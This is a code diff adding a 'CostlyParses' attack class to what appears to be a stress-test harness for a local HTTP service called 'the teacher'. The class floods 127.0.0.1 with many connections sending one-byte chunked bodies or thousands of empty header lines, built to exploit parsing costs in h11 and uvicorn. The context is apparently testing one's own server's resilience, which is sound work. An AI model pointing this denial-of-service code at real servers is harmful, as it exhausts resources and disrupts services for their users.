@@ -182,6 +182,45 @@ class IdleConnections(_Sockets):
         return H2_PREFACE
 
 
+class CostlyParses(Attack):
+    """`connections` HTTP connections, each sending requests one after another (every answer read)
+    that are cheap to send and dear to parse, no token needed: a body of `body_bytes` in chunks of
+    one byte (`Transfer-Encoding: chunked`: an event of h11's and of uvicorn's per byte), or
+    `headers` empty header lines sent at once (h11's 16 KiB limit counted only the headers of a
+    request still incomplete). A new connection for each the teacher closes."""
+
+    def __init__(self, port: int, connections: int, body_bytes: int, headers: int = 12_000):
+        super().__init__()
+        self.port, self.connections = port, connections
+        self.requests = [
+            b"POST /healthz HTTP/1.1\r\nHost: teacher\r\nTransfer-Encoding: chunked\r\n\r\n"
+            + b"1\r\nx\r\n" * (body_bytes // 6) + b"0\r\n\r\n",
+            b"GET /healthz HTTP/1.1\r\nHost: teacher\r\n" + b"".join(b"x%d:\r\n" % i for i in range(headers)) + b"\r\n"]
+        allow_descriptors(connections)
+
+    def run(self, stop: threading.Event) -> None:
+        workers = [threading.Thread(target=self._connection, args=(stop, self.requests[i % 2]), daemon=True)
+                   for i in range(self.connections)]
+        for worker in workers:
+            worker.start()
+        for worker in workers:
+            worker.join()
+
+    def _connection(self, stop: threading.Event, request: bytes) -> None:
+        while not stop.is_set():
+            try:
+                with socket.create_connection(("127.0.0.1", self.port), timeout=5) as sock:
+                    while not stop.is_set():
+                        sock.sendall(request)
+                        answer = sock.recv(4096)
+                        if not answer:
+                            self.counts["closed by the teacher"] += 1
+                            break
+                        self.counts[answer[9:12].decode(errors="replace")] += 1
+            except OSError:
+                self.counts["closed by the teacher"] += 1
+
+
 class PipelinedUnread(Attack):
     """`connections` HTTP connections that each pipeline `requests` GET /healthz and never read
     an answer, with a small receive buffer so that the teacher's sends block soon; a new one
